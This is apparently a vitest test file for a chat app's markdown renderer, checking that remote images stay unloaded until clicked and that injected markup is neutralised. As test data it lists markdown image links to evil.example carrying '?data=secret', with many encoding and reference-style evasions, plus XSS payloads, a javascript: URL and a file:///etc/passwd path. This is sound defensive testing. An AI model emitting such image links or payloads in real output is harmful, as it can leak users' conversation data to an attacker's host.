import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '~/utils/chat/markdown/markdown'
import { splitMarkdownBlocks } from '~/utils/chat/markdown/markdown-blocks'
import { decideImageSource } from '~/utils/chat/markdown/markdown-images'

function render(source: string): DocumentFragment {
  const template = document.createElement('template')
  template.innerHTML = renderMarkdown(source)
  return template.content
}

/** Image sources in rendered HTML that the browser would fetch from anywhere but this page's origin. */
function remoteSources(html: string): string[] {
  const template = document.createElement('template')
  template.innerHTML = html
  return Array.from(template.content.querySelectorAll('img[src]'))
    .map(image => image.getAttribute('src')!)
    .filter(src => !src.startsWith('data:image/') && new URL(src, document.baseURI).origin !== location.origin)
}

function placeholders(fragment: DocumentFragment) {
  return Array.from(fragment.querySelectorAll('button.chat-remote-image')).map(button => ({
    host: button.querySelector('.chat-remote-image-host')?.textContent,
    url: button.getAttribute('data-remote-src'),
    alt: button.querySelector('.chat-remote-image-alt')?.textContent,
  }))
}

/** Markdown ways to point an image at evil.example, each of which must wait for a click. */
const REMOTE_IMAGE_FORMS: Array<[string, string]> = [
  ['inline', '![chart](https://evil.example/leak.png?data=secret)'],
  ['uppercase scheme and host', '![chart](HTTPS://EVIL.EXAMPLE/leak.png)'],
  ['mixed-case http', '![chart](HtTp://evil.example/leak.png)'],
  ['protocol-relative', '![chart](//evil.example/leak.png)'],
  ['scheme without slashes', '![chart](https:evil.example/leak.png)'],
  ['scheme with one slash', '![chart](https:/evil.example/leak.png)'],
  ['padded with spaces', '![chart](   https://evil.example/leak.png   )'],
  ['angle-bracket destination with a space', '![chart](<https://evil.example/leak me.png>)'],
  ['entity-encoded scheme', '![chart](&#104;ttps://evil.example/leak.png)'],
  ['entity-encoded colon', '![chart](https&#58;//evil.example/leak.png)'],
  ['percent-encoded host', '![chart](https://%65vil.example/leak.png)'],
  ['with a title', '![chart](https://evil.example/leak.png "Quarterly")'],
  ['reference-style', '![chart][ref]\n\n[ref]: https://evil.example/leak.png'],
  ['collapsed reference', '![chart][]\n\n[chart]: https://evil.example/leak.png'],
  ['shortcut reference', '![chart]\n\n[chart]: <https://evil.example/leak.png> "t"'],
  ['inside a link', '[![chart](https://evil.example/leak.png)](https://evil.example/page)'],
  ['inside a link by reference', '[![chart][img]][page]\n\n[img]: https://evil.example/leak.png\n[page]: https://example.com'],
  ['credentials before the host', '![chart](https://trusted.example@evil.example/leak.png)'],
  ['in a table cell', '| a |\n|---|\n| ![chart](https://evil.example/leak.png) |'],
  ['in a list item', '- ![chart](https://evil.example/leak.png)'],
  ['in a heading', '## ![chart](https://evil.example/leak.png)'],
  ['in a quote', '> ![chart](https://evil.example/leak.png)'],
  ['image in image alt', '![![inner](https://evil.example/inner.png)](https://evil.example/leak.png)'],
]

describe('remote images in rendered markdown', () => {
  it.each(REMOTE_IMAGE_FORMS)('fetch nothing before a click: %s', (_form, source) => {
    const html = renderMarkdown(source)
    expect(remoteSources(html)).toEqual([])
    // Nothing outside an inert data- attribute or title names the image URL's path.
    expect(html.replace(/ (?:data-remote-src|title)="[^"]*"/g, '')).not.toMatch(/leak(?:%20me)?\.png/)
    const found = placeholders(render(source))
    expect(found.map(placeholder => placeholder.host)).toContain('evil.example')
    expect(found.every(placeholder => /^https?:$/.test(new URL(placeholder.url!).protocol))).toBe(true)
  })

  it('fetch nothing when rendered block by block, as the chat does', () => {
    const source = REMOTE_IMAGE_FORMS.map(([, markdown]) => markdown).join('\n\n')
    for (const block of splitMarkdownBlocks(source)) expect(remoteSources(renderMarkdown(block)), block).toEqual([])
  })

  it('show a button that names the host and shows the alt text, with the URL kept inert', () => {
    const fragment = render('Here: ![Quarterly revenue](https://evil.example/leak?data=secret)')
    expect(fragment.querySelector('img')).toBeNull()
    const button = fragment.querySelector('button')!
    expect(button.getAttribute('type')).toBe('button')
    expect(button.textContent).toContain('Load image from evil.example')
    expect(button.querySelector('.chat-remote-image-alt')?.textContent).toBe('Quarterly revenue')
    expect(button.getAttribute('data-remote-src')).toBe('https://evil.example/leak?data=secret')
  })

  it('name the real host, not one a URL dresses up as', () => {
    expect(placeholders(render('![x](https://trusted.example@evil.example/a.png)'))[0]!.host).toBe('evil.example')
    expect(placeholders(render('![x](https://evil.example:8443/a.png)'))[0]!.host).toBe('evil.example:8443')
    // A Cyrillic look-alike of "apple.com" is shown in its punycode form.
    expect(placeholders(render('![x](https://аррӏе.com/a.png)'))[0]!.host).toBe('xn--80ak6aa92e.com')
  })

  it('give each image its own placeholder, in order', () => {
    const found = placeholders(render('![one](https://a.example/1.png) and ![two](https://b.example/2.png)'))
    expect(found.map(placeholder => placeholder.host)).toEqual(['a.example', 'b.example'])
  })

  it('keep a linked image\'s link usable: the link shows the alt text and the button follows it', () => {
    const fragment = render('[![Build status](https://ci.example/badge.svg)](https://ci.example/run)')
    const link = fragment.querySelector('a')!
    expect(link.getAttribute('href')).toBe('https://ci.example/run')
    expect(link.textContent).toBe('Build status')
    expect(link.querySelector('button')).toBeNull()
    expect(link.nextElementSibling?.matches('button.chat-remote-image')).toBe(true)
  })

  it('keep the attacker\'s alt text and URL as text and attribute values only', () => {
    const fragment = render('![<img src=x onerror=alert(1)>"\'](https://evil.example/a.png?"><script>alert(1)</script>)')
    expect(fragment.querySelector('script, img, [onerror]')).toBeNull()
    const button = fragment.querySelector('button')!
    expect(button.querySelector('.chat-remote-image-alt')?.textContent).toBe('<img src=x onerror=alert(1)>"\'')
    expect(button.querySelectorAll('*')).toHaveLength(3)
  })

  it('leave autolinked image URLs as plain links', () => {
    for (const source of ['See https://evil.example/leak.png', 'See <https://evil.example/leak.png>', '[chart](https://evil.example/leak.png)']) {
      const fragment = render(source)
      expect(fragment.querySelector('img, button'), source).toBeNull()
      expect(fragment.querySelector('a')?.getAttribute('href'), source).toBe('https://evil.example/leak.png')
    }
  })

  it('keep raw HTML images as text', () => {
    const fragment = render('<img src="https://evil.example/leak.png"> <IMG SRC=//evil.example/x.png>')
    expect(fragment.querySelector('img, button')).toBeNull()
  })
})

describe('images that are not remote', () => {
  it('keep data: images of common formats inline', () => {
    expect(render('![dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img')?.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=')
    expect(render('![dot](data:image/webp;base64,UklGRg==)').querySelector('img')?.getAttribute('src')).toBe('data:image/webp;base64,UklGRg==')
  })

  it('load same-origin images, written as an absolute URL so the browser reads them as we did', () => {
    expect(render('![logo](/logo.png)').querySelector('img')?.getAttribute('src')).toBe(new URL('/logo.png', document.baseURI).href)
    expect(render('![logo](images/logo.png)').querySelector('img')?.getAttribute('src')).toBe(new URL('images/logo.png', document.baseURI).href)
    expect(render(`![logo](${location.origin}/logo.png)`).querySelector('img')?.getAttribute('src')).toBe(`${location.origin}/logo.png`)
  })

  it('hold back images pointing at the app\'s own API, which an image must not be able to call', () => {
    for (const path of ['/api/openrouter/v1/key', '/API/x', '//api/x', '/%61pi/x']) {
      const source = `![x](${location.origin}${path})`
      expect(render(source).querySelector('img'), path).toBeNull()
      expect(render(source).querySelector('button.chat-remote-image'), path).not.toBeNull()
    }
  })

  it('give an image on a scheme a chat never fetches (ftp:) no source and no button', () => {
    const fragment = render('![old chart](ftp://evil.example/a.png)')
    expect(fragment.querySelector('img[src], button')).toBeNull()
  })
})

describe('decideImageSource', () => {
  const base = 'https://app.example/thread/1'

  it('resolves the source the way the browser will before deciding', () => {
    expect(decideImageSource('/\\evil.example/a.png', base)).toMatchObject({ kind: 'remote' })
    expect(decideImageSource('\t//evil.example/a.png', base)).toMatchObject({ kind: 'remote' })
    expect(decideImageSource('ht\ntps://evil.example/a.png', base)).toMatchObject({ kind: 'remote' })
    expect(decideImageSource('./a.png', base)).toEqual({ kind: 'inline', src: 'https://app.example/thread/a.png' })
    expect(decideImageSource('http://app.example/a.png', base)).toMatchObject({ kind: 'remote' })
  })

  it('never lets other schemes through', () => {
    for (const src of ['javascript:alert(1)', 'data:image/svg+xml,<svg>', 'blob:https://app.example/x', 'file:///etc/passwd', 'https://[invalid']) {
      expect(decideImageSource(src, base), src).toEqual({ kind: 'blocked' })
    }
  })
})
